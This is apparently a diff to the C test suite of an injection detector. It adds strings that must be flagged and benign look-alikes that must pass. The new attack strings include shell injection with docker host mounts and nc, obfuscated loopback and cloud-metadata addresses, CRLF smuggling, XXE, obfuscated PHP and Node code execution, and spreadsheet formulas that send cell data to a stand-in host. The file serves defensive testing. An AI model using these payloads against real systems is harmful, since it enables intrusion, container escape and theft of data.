@@ -101,7 +101,8 @@ TEST("sentences, names, sizes and searches with words of SQL are none")
         "if (x == 'a' || y == 'b') return", "a = b and c = d", "null and void", "true or false", "sleep(8) hours", "http://shop.example/?q=a+or+b",
         "version 2 or version 3", "we shall not -- ever -- agree", "a/b/c*d", "E. coli and S. aureus", "5' x 7' or 8'",
         "the union select committee met at noon", "is 2=2 or not?", "create table bookings", "9 and 9 is 18", "\"and\"", "\"-\"", "int/*k*/value",
-        "either 6 or true north", "a/*b*/c", "select or union; either will do", NULL
+        "either 6 or true north", "a/*b*/c", "select or union; either will do", "drop table salt and take pepper",
+        "merge into the left half of the road; then stop", "is it so or not so -- nobody can tell", NULL
     };
     passes(texts);
 }
@@ -149,7 +150,7 @@ TEST("commands behind separators and in substitutions are shell injection")
         "; ps aux", "10.0.0.9; mv k l", "\" & id & \"", "k; /bin/ca? /etc/hosts", "/usr/bin/[u]name -a", "/etc/[!k]osts", "python3.9 /tmp/k.py", "time wget k.example",
         "find / -name k -exec rm {}", "--checkpoint-action=exec=k", "-oProxyCommand=k", "wmic process call create k", "IEX (iwr k)", "schtasks /create /tn k /tr l",
         "rundll32 javascript:k", "reg add HKLM\\k", "New-Object Net.WebClient", ";kubectl get secrets", ";echo k", "k;id;l;",
-        "; nc", "x; nc 9 8", NULL
+        "; nc", "x; nc 9 8", "k; docker run --rm -v /:/k k sh", "k;while :;do :;done", NULL
     };
     attacks(ATTACK_SHELL, texts);
 }
@@ -217,26 +218,33 @@ TEST("ways out of a folder, and files that nobody is to read")
         "k/.kube/config", "../.netrc", "/k/.docker/config.json", "/proc/modules",
         "/etc/kubernetes/k.conf", "/run/secrets/k", "/var/run/secrets/kubernetes.io/k", "/opt/k/conf/tomcat-users.xml", "/k/../../../l", "..%00/k", "..././..././k",
         "\\\\10.0.0.9\\k\\l", "\\\\k.example\\c$\\l", "\\\\?\\C:\\k", "http://169.254.169.254/latest", "file:/etc/hosts", "%WINDIR%\\win.ini", "0x2e0x2e0x2fk",
-        "data://text/plain,k", "c:\\windows\\system32\\config\\sam", NULL
+        "data://text/plain,k", "c:\\windows\\system32\\config\\sam", "http://0x7f.0.0.1/", "https://0xA9FEA9FE", "u=http://3232235777/k", "http://0300.0250.0.1/k",
+        "http://10.1/", "ftp://[::1]:22/", "http://[::ffff:a9fe:a9fe]/", "http://[fe80::1]/", "http://[0:0:0:0:0:0:0:1]/", NULL
     };
     attacks(ATTACK_TRAVERSAL, texts);
     static const char *const near[] = { "../images/k.png", "wait... what", "and so on...", "./run", "https://k.example/a/b", "import x from '../../lib'", "3/4 of it",
                                         "the file is in the folder", "a.b.c", "etc. and so on", "a history of art", "k.azure.example", "docker/config", "\\\\server\\share",
-                                        "/opt/k/bin", "/dev/sdb1", "require('../../../k')", "http://k.example/latest", NULL };
+                                        "/opt/k/bin", "/dev/sdb1", "require('../../../k')", "http://k.example/latest", "http://203.0.113.80:8080/k", "https://0xkim.example/", "http://[2001:db8::1]/",
+                                        "https://360.example", "https://12345678.example/k", NULL };
     passes(near);
 }
 
 TEST("lines put into heads, documents that read others, program code")
 {
     static const char *const crlf[] = { "k%0d%0aSet-Cookie: a=b", "k%0aLocation:%20//k.example", "k\r\nSet-Cookie: a=b", "k\\r\\nContent-Length: 0",
-                                        "kim@k.example%0abcc:all@k.example", NULL };
+                                        "kim@k.example%0abcc:all@k.example", "http://k.example/%0d%0aFLUSHALL%0d%0a", "k%0D%0ARCPT%20TO", NULL };
     static const char *const xml[] = { "<!DOCTYPE k [<!ENTITY e SYSTEM \"file:///etc/hosts\">]>", "<!ENTITY % e PUBLIC \"k\" \"//k.example\">",
                                        "<!--#exec cmd=\"id\"-->", "<xi:include href=\"k\"/>", "<esi:include src=//k.example>", NULL };
     static const char *const code[] = { "<?php go(); ?>", ";system('id')", "eval(base64_decode('aa'))", "Runtime.getRuntime().exec(\"id\")",
                                         "require('child_process').exec('id')", "__import__('os').system('id')", "O:4:\"Kind\":1:{s:1:\"a\";i:1;}",
-                                        "rO0ABXNyAAA", "!!python/object/apply:os.system", "$_GET['k']", NULL };
+                                        "rO0ABXNyAAA", "!!python/object/apply:os.system", "$_GET['k']", "k=base64_decode('a2lt')", "eval ($k)", "\"system\"(ls)",
+                                        "[system][0](ls)", "(sy.(st).em)('uname -a');", "-d auto_prepend_file=k.php", "require.main.constructor._load('fs')",
+                                        "process['mainModule']", "process.env", "while(!false)", "k=while(1);", "=cmd|' /C k'!A0", "@SUM(1+1)*cmd|'k'!A0",
+                                        "=IMPORTXML(\"https://k.example/?\"&A1,\"//b\")", "-hyperlink(\"http://k.example/?\"&B2)", NULL };
     static const char *const near[] = { "Content-Type: text/plain", "line one\r\nline two", "100%0 sure", "<!-- a comment -->", "<k:include>", "<!DOCTYPE html>",
-                                        "my system (a good one)", "eval is evil", "the runtime of a film", "require it", "import os", "O: 4 apples", "<?phpx", "<?=!", NULL };
+                                        "my system (a good one)", "eval is evil", "the runtime of a film", "require it", "import os", "O: 4 apples", "<?phpx", "<?=!", "the \"system\" (as it is called)", "base64_decode reads base64", "the process.env of Node",
+                                        "const a = process.env.HOME;", "while (true enough) we wait", "while(!done)", "= cmd", "=SUM(A1:A9)", "=HYPERLINK(\"https://k.example\", \"k\")",
+                                        "safe_mode: on", "-3 | 'k'", NULL };
     attacks(ATTACK_CRLF, crlf);
     attacks(ATTACK_XML, xml);
     attacks(ATTACK_CODE, code);
